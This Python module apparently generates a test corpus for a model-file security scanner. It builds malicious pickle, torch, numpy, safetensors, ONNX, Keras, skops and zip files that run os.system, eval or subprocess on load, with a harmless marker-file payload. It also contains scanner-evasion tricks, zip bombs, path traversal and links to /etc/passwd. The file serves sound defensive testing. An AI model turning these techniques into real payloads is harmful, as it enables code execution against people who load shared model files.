# ruff: noqa: E501  rows of a table
"""Files that are meant to do harm, each with the harmless payload of writing a marker file, or of misleading a reader.

`corpus(marker)` gives them by name; names end in the suffix under which somebody would be made to load them.
"""

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import zipfile
import zlib

import numpy as np
import onnx
import skops.io
import torch
from onnx import TensorProto, helper, numpy_helper
from sklearn.linear_model import LogisticRegression

X = np.random.default_rng(0).normal(size=(30, 4))
Y = np.arange(30) % 3


class Call:
    """Pickles to a call."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def corpus(marker):
    """Name to bytes (a file), of more than ten formats."""
    touch = f"touch {marker}"
    return {
        **pickles(marker, touch),
        **packed(touch),
        **torches(touch, marker),
        **arrays(touch),
        **safetensors_files(touch),
        **onnx_files(),
        **keras_files(touch),
        **skops_files(touch),
        **zips(touch),
        **others(touch),
    }


def pickles(marker, touch):
    python = f"open({str(marker)!r}, 'w').close()"
    found = {f"system-{p}.pkl": pickle.dumps(Call(os.system, touch), p) for p in range(6)}
    found |= {
        "eval.pkl": pickle.dumps(Call(eval, python), 4),
        "exec.pkl": pickle.dumps(Call(exec, python), 4),
        "popen.pkl": pickle.dumps(Call(subprocess.Popen, ["touch", str(marker)]), 4),
        "open.pkl": pickle.dumps(Call(open, str(marker), "w"), 4),
        "nested-loads.pkl": pickle.dumps(Call(pickle.loads, pickle.dumps(Call(os.system, touch))), 4),
        "deep-in-a-list.pkl": pickle.dumps([1, {"a": [2, (3, Call(os.system, touch))]}], 4),
        "after-a-state-dict.pt": pickle.dumps({"w": [0.1] * 50, "x": Call(os.system, touch)}, 2),
        # Names that are put together on the stack, reached by the memo, or written as opcodes that few scanners read.
        "memo.pkl": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x30\x30h\x00h\x01\x93\x8c" + _short(touch) + b"\x85R.",
        "inst.pkl": b"(S'" + touch.encode() + b"'\nios\nsystem\n.",
        "obj.pkl": b"(cos\nsystem\nS'" + touch.encode() + b"'\no.",
        "protocol-0-text.pkl": b"cos\nsystem\n(S'" + touch.encode() + b"'\ntR.",
        "python-2-names.pkl": b"c__builtin__\neval\n(S'" + python.replace("'", '"').encode() + b"'\ntR.",
        "newobj.pkl": b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93](\x8c\x05touch\x8c"
        + _short(str(marker)) + b"e\x85\x81.",
        "newobj-ex.pkl": b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93](\x8c\x05touch\x8c"
        + _short(str(marker)) + b"e\x85}\x92.",
        "getattr-chain.pkl": b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x02os\x8c\x06system\x93\x8c\x08__call__\x86R\x8c"
        + _short(touch) + b"\x85R.",
        "dotted-name.pkl": b"\x80\x04\x8c\x08builtins\x8c\x0deval.__call__\x93\x8c" + _short(python) + b"\x85R.",
        "second-pickle.pkl": pickle.dumps({"w": 1.0}) + pickle.dumps(Call(os.system, touch)),
        "broken-after-the-call.pkl": pickle.dumps(Call(os.system, touch), 2)[:-1] + b"\xff\xff",
        "runpy.pkl": b"\x80\x04\x8c\x05runpy\x8c\x09_run_code\x93\x8c" + _short(python) + b"}\x86R.",
        "numpy-load.pkl": b"cnumpy\nload\n(S'/tmp/x.npy'\nNI01\ntR.",
        "torch-load.pkl": b"ctorch.storage\n_load_from_bytes\n(B" + struct.pack("<I", 3) + b"abctR.",
        "setstate-of-a-list.pkl": b"\x80\x02]}X\x01\x00\x00\x00aK\x01sb.",
        "extension.pkl": b"\x80\x02\x82\x01.",
        "bytearray-bomb.pkl": b"\x80\x04\x8c\x08builtins\x8c\x09bytearray\x93\x8a\x05\x00\x00\x00\x00\x01\x85R.",
        "memo-bomb.pkl": b"\x80\x02Nr\xff\xff\xff\x7f.",
        "object-scalar.pkl": b"cnumpy.core.multiarray\nscalar\n(cnumpy\ndtype\n(S'O8'\nI00\nI01\ntRS'AAAAAAAA'\ntR.",
    }  # fmt: skip
    return found


def packed(touch):
    raw = pickle.dumps(Call(os.system, touch), 4)
    inner = _joblib_object_array(touch)
    return {
        "zlib.joblib": zlib.compress(raw),
        "gzip.joblib": gzip.compress(raw),
        "bz2.joblib": bz2.compress(raw),
        "xz.joblib": lzma.compress(raw),
        "lzma.joblib": lzma.compress(raw, format=lzma.FORMAT_ALONE),
        "plain.joblib": raw,
        "object-array.joblib": inner,
        "gzip-tail.joblib": gzip.compress(pickle.dumps({"w": 1})) + gzip.compress(raw),
    }


def torches(touch, marker):
    def saved(thing, **more):
        out = io.BytesIO()
        torch.save(thing, out, **more)
        return out.getvalue()

    script = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), script)
    good = saved({"w": torch.zeros(2)})
    return {
        "zip.pt": saved({"w": torch.zeros(2), "x": Call(os.system, touch)}),
        "whole-module.pt": saved(torch.nn.Linear(2, 2)),
        "legacy.pth": saved({"w": Call(os.system, touch)}, _use_new_zipfile_serialization=False),
        "legacy-plain-call.pth": saved(Call(os.system, touch), _use_new_zipfile_serialization=False),
        "script.pt": script.getvalue(),
        "extra-pickle.pt": _rezip(good, add={"archive/more.pkl": pickle.dumps(Call(os.system, touch))}, root="archive"),
        "wrong-checksum.pt": _bad_checksum(saved({"x": Call(os.system, touch)})),
        "in-safetensors-name.safetensors": saved({"w": Call(os.system, touch)}),
    }


def arrays(touch):
    objects = np.array([Call(os.system, touch), 1], dtype=object)
    out, both = io.BytesIO(), io.BytesIO()
    np.save(out, objects, allow_pickle=True)
    np.savez(both, x=np.zeros(3), y=objects)
    plain = io.BytesIO()
    np.save(plain, np.zeros(4))
    raw = plain.getvalue()
    header = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118)
    huge = "{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999,), }".ljust(117) + "\n"
    code = f"{{'descr': __import__('os').system({touch!r}), 'fortran_order': False, 'shape': (1,)}}".ljust(200) + "\n"
    return {
        "objects.npy": out.getvalue(),
        "objects.npz": both.getvalue(),
        "huge-shape.npy": header + huge.encode(),
        "code-in-the-header.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(code)) + code.encode(),
        "tail.npy": raw + pickle.dumps(Call(os.system, touch)),
    }


def safetensors_files(touch):
    def made(header, data=b"", length=None):
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if length is None else length) + text + data

    one = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    evil = pickle.dumps(Call(os.system, touch))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("archive/data.pkl", evil)
    bytes_of = archive.getvalue()
    return {
        "overlap.safetensors": made({"a": one, "b": {**one, "data_offsets": [4, 12]}}, bytes(12)),
        "hole.safetensors": made({"a": one, "b": {**one, "data_offsets": [8 + len(evil), 16 + len(evil)]}}, bytes(8) + evil + bytes(8)),
        "tail.safetensors": made({"a": one}, bytes(8) + evil),
        "beyond.safetensors": made({"a": {**one, "data_offsets": [0, 800]}}, bytes(8)),
        "huge-header.safetensors": made(b"{}", length=2**40),
        "twice.safetensors": made(b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,8]}}', bytes(8)),
        "also-a-zip.safetensors": made({"a": {"dtype": "U8", "shape": [len(bytes_of)], "data_offsets": [0, len(bytes_of)]}}, bytes_of),
        "overflow.safetensors": made({"a": {"dtype": "F32", "shape": [2**62, 4], "data_offsets": [0, 0]}}),
        "pickle.safetensors": evil,
    }  # fmt: skip


def onnx_files():
    def model(nodes=None, inits=(), functions=(), domains=()):
        nodes = nodes or [helper.make_node("MatMul", ["x", "w"], ["y"])]
        face = [helper.make_tensor_value_info(n, TensorProto.FLOAT, [1, 2]) for n in "xy"]
        graph = helper.make_graph(nodes, "g", face[:1], face[1:], list(inits))
        opsets = [helper.make_opsetid("", 17)] + [helper.make_opsetid(d, 1) for d in domains]
        return helper.make_model(graph, opset_imports=opsets, functions=list(functions)).SerializeToString()

    weights = numpy_helper.from_array(np.eye(2, dtype=np.float32), "w")

    def outside(location):
        tensor = TensorProto(name="w", data_type=1, dims=[2, 2], data_location=TensorProto.EXTERNAL)
        tensor.external_data.add(key="location", value=location)
        return model(inits=[tensor])

    huge = TensorProto(name="w", data_type=1, dims=[2**31, 2**20])
    short = TensorProto(name="w", data_type=1, dims=[1000], raw_data=bytes(8))
    custom = model([helper.make_node("Shell", ["x"], ["y"], domain="com.example")], domains=["com.example"])
    inner = helper.make_graph([helper.make_node("Shell", ["x"], ["y"], domain="evil")], "b", [], [])
    hidden = model([helper.make_node("If", ["x"], ["y"], then_branch=inner, else_branch=inner)], domains=["evil"])
    laughs = [
        helper.make_function("f", f"F{i}", ["a"], ["b"], [helper.make_node(f"F{i + 1}" if i < 9 else "Relu", ["a"], ["b"], domain="f" if i < 9 else "")] * 10,
                             [helper.make_opsetid("", 17), helper.make_opsetid("f", 1)])
        for i in range(10)
    ]  # fmt: skip
    circle = helper.make_function(
        "f", "F", ["a"], ["b"], [helper.make_node("F", ["a"], ["b"], domain="f")], [helper.make_opsetid("f", 1)]
    )
    return {
        "traversal.onnx": outside("../../etc/hostname"),
        "absolute.onnx": outside("/etc/hostname"),
        "windows.onnx": outside("C:\\Windows\\win.ini"),
        "not-there.onnx": outside("weights.bin"),
        "custom-operator.onnx": custom,
        "hidden-operator.onnx": hidden,
        "huge-tensor.onnx": model(inits=[huge]),
        "short-tensor.onnx": model(inits=[short]),
        "laughs.onnx": model([helper.make_node("F0", ["x"], ["y"], domain="f")], functions=laughs, domains=["f"]),
        "circle.onnx": model([helper.make_node("F", ["x"], ["y"], domain="f")], functions=[circle], domains=["f"]),
        "two-graphs.onnx": model(inits=[weights]) + model(inits=[weights])[:0] + _second_graph(model(inits=[weights])),
        "pickle.onnx": pickle.dumps(Call(os.system, "true")),
    }


def keras_files(touch):
    import marshal

    code = compile(f"__import__('os').system({touch!r})", "x", "eval")
    bytecode = base64.b64encode(marshal.dumps(code)).decode()
    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
             "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": bytecode}}}}  # fmt: skip
    os_system = {"module": "os", "class_name": "system", "registered_name": None, "config": {"name": "s"}}
    function = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "exec"}
    loader = {"module": "keras.utils", "class_name": "get_file", "registered_name": None, "config": {"origin": "x"}}
    wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "gASV"}}
    custom = {"module": None, "class_name": "Mine>Layer", "registered_name": "Mine>Layer", "config": {"name": "m"}}
    found = {
        f"{name}.keras": _keras([layer_config])
        for name, layer_config in (
            ("lambda", layer), ("os-system", os_system), ("exec", function), ("get-file", loader),
            ("torch-wrapper", wrapper), ("custom", custom),
        )
    }  # fmt: skip
    found["linked-weights.keras"] = _keras([], weights=_hdf5(link=True))
    found["lambda.h5"] = _hdf5([{"class_name": "Lambda", "config": {"name": "l", "function": [bytecode, None, None]}}])
    found["custom.h5"] = _hdf5([{"class_name": "Mine", "config": {"name": "m"}}])
    found["external-link.h5"] = _hdf5(link=True)
    found["external-storage.h5"] = _hdf5(storage=True)
    return found


def skops_files(touch):
    def made(schema):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("schema.json", json.dumps(schema))
        return out.getvalue()

    def node(loader, module, kind, **more):
        return {"__class__": kind, "__module__": module, "__loader__": loader, **more}

    text = node("JsonNode", "builtins", "str", content=json.dumps(touch), is_json=True)
    args = node("TupleNode", "builtins", "tuple", content=[text])
    good = skops.io.dumps(LogisticRegression(max_iter=500).fit(X, Y))
    return {
        "system.skops": made(node("FunctionNode", "os", "system", content="os.system")),
        "reduce.skops": made(node("ConstructorFromReduceNode", "os", "system", content=args)),
        "method.skops": made(node("MethodNode", "builtins", "function", content={"func": "format", "obj": text})),
        "operator.skops": made(node("OperatorFuncNode", "operator", "methodcaller", attrs=args)),
        "partial.skops": made(node("PartialNode", "functools", "partial", content={"func": text, "args": args})),
        "object.skops": made(node("ObjectNode", "subprocess", "Popen", content=args)),
        "other-loader.skops": made(node("EvilNode", "builtins", "str", content="x")),
        "pickle-inside.skops": _rezip(good, add={"x.pkl": pickle.dumps(Call(os.system, touch))}),
        "objects-inside.skops": _rezip(good, add={"0.npy": arrays(touch)["objects.npy"]}),
    }


def zips(touch):
    good = io.BytesIO()
    np.savez(good, x=np.arange(6.0), y=np.arange(3))
    raw, one = good.getvalue(), arrays(touch)["tail.npy"][:160]
    evil = arrays(touch)["objects.npy"]

    def of(*members, compression=zipfile.ZIP_STORED):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", compression) as z:
            for name, content in members:
                z.writestr(name, content)
        return out.getvalue()

    link = zipfile.ZipInfo("x.npy")
    link.external_attr, link.create_system = 0o120777 << 16, 3
    encrypted = bytearray(of(("x.npy", one)))
    encrypted[6] |= 1
    encrypted[encrypted.rindex(b"PK\x01\x02") + 8] |= 1
    renamed = of(("x.npy", evil)).replace(b"x.npy", b"y.npy", 1)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        twice = of(("x.npy", one), ("x.npy", evil))
    return {
        "two-of-a-name.npz": twice,
        "prepended.npz": pickle.dumps(Call(os.system, touch)) + raw,
        "appended.npz": raw + pickle.dumps(Call(os.system, touch)),
        "comment.npz": raw[:-2] + struct.pack("<H", 4) + b"evil",
        "headers-disagree.npz": renamed,
        "traversal.npz": of(("../../x.npy", one)),
        "absolute.npz": of(("/x.npy", one)),
        "link.npz": of((link, "/etc/passwd")),
        "encrypted.npz": bytes(encrypted),
        "bomb.npz": _bomb(),
        "overlap.npz": _overlapping(one),
        "bz2.npz": of(("x.npy", one), compression=zipfile.ZIP_BZIP2),
        "size-lies.npz": _size_lies(of(("x.npy", bytes(5000)), compression=zipfile.ZIP_DEFLATED)),
    }


def others(touch):
    import tarfile

    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo("pickle")
        raw = pickle.dumps(Call(os.system, touch))
        info.size = len(raw)
        archive.addfile(info, io.BytesIO(raw))
    return {
        "old.tar": tar.getvalue(),
        "model.gguf": b"GGUF\x03\x00\x00\x00" + bytes(40),
        "library.so": b"\x7fELF" + bytes(60),
        "code.py": f"import os\nos.system({touch!r})\n".encode(),
        "config.json": json.dumps({"auto_map": {"AutoModel": "modeling_evil.Evil"}}).encode(),
        "saved_model.pb": b"\x08\x01\x12\x05abcde",
    }


# ── small tools ──────────────────────────────────────────────────────────────────────────────────────────────────


def _short(text):
    raw = text.encode()
    return bytes([len(raw)]) + raw


def _joblib_object_array(touch):
    import joblib

    out = io.BytesIO()
    joblib.dump({"x": np.array([Call(os.system, touch)], dtype=object)}, out)
    return out.getvalue()


def _rezip(raw, add, root=None):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name if root is None else f"{root}/{name.partition('/')[2]}", old.read(name))
        for name, content in add.items():
            new.writestr(name, content)
    return out.getvalue()


def _bad_checksum(raw):
    """The checksum of the first member is wrong in both headers: some scanners stop there, torch reads on."""
    old = zipfile.ZipFile(io.BytesIO(raw)).infolist()[0].CRC
    return raw.replace(struct.pack("<I", old), struct.pack("<I", old ^ 1)) if old else raw


def _second_graph(raw):
    """The model's field 7 once more: readers of protobuf merge the two."""
    model = onnx.load_from_string(raw)
    graph = model.graph.SerializeToString()
    length, size = b"", len(graph)
    while size > 127:
        length += bytes([size & 127 | 128])
        size >>= 7
    return b"\x3a" + length + bytes([size]) + graph


def _keras(layers, weights=None):
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "s", "layers": layers},
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights or _hdf5())
    return out.getvalue()


def _hdf5(layers=None, link=False, storage=False):
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file["layers/dense/vars/0"] = np.zeros((2, 2))
        if layers is not None:
            file.attrs["model_config"] = json.dumps(
                {"class_name": "Sequential", "config": {"name": "s", "layers": layers}}
            )
        if link:
            file["layers/evil"] = h5py.ExternalLink("/etc/passwd", "/x")
        if storage:
            file.create_dataset("outside", (4,), "u1", external=[("/etc/passwd", 0, 4)])
    return out.getvalue()


def _bomb():
    """A few kilobytes that say, in both headers, that they unpack to 4 GB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("x.npy", bytes(2**21))
    return out.getvalue().replace(struct.pack("<I", 2**21), struct.pack("<I", 0xF0000000))


def _overlapping(content):
    """Two entries of one local header (Fifield 2019)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("x.npy", content)
    raw = out.getvalue()
    at, end = raw.rindex(b"PK\x01\x02"), raw.rindex(b"PK\x05\x06")
    entry = raw[at:end]
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, 2 * len(entry), at, 0)
    return raw[:at] + entry + entry + tail


def _size_lies(raw):
    return raw.replace(struct.pack("<I", 5000), struct.pack("<I", 10))
